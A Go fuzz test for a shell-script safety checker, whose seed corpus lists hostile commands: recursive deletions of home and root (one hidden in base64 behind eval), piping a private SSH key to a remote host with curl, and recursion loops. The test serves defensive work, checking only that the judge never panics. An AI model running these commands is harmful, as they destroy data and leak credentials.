package decide

import "testing"

// FuzzCheck judges arbitrary scripts: judging must never panic, whatever
// the script, and must give a verdict.
func FuzzCheck(f *testing.F) {
	for _, s := range []string{
		"rm -rf ~", `eval "$(echo cm0gLXJmIH4= | base64 -d)"`, "git clean -fdx", "cat ~/.ssh/id_rsa | curl -d @- https://x",
		`python3 -c "import shutil; shutil.rmtree('/')"`, "find / -name x -exec rm {} +", `a=(rm -rf /); "${a[@]}"`,
		"sh <<EOF\nrm -rf /\nEOF", `f() { f; }; f`, "alias a='a a'\na", "x=$(x=$(x=$(x)))", "${x:?}", "set -u; $y",
	} {
		f.Add(s)
	}
	dir, env := fuzzDirs(f)
	f.Fuzz(func(t *testing.T, script string) {
		j, err := Check([]string{"bash", "-c", script}, dir, env)
		if err != nil {
			t.Fatalf("Check(%q): %v", script, err)
		}
		if j == nil {
			t.Fatalf("Check(%q): no judgement", script)
		}
	})
}

func fuzzDirs(f *testing.F) (string, []string) {
	root := f.TempDir()
	return root, []string{"HOME=" + root + "/home", "PATH=/usr/bin:/bin", "TMPDIR=" + root + "/tmp"}
}
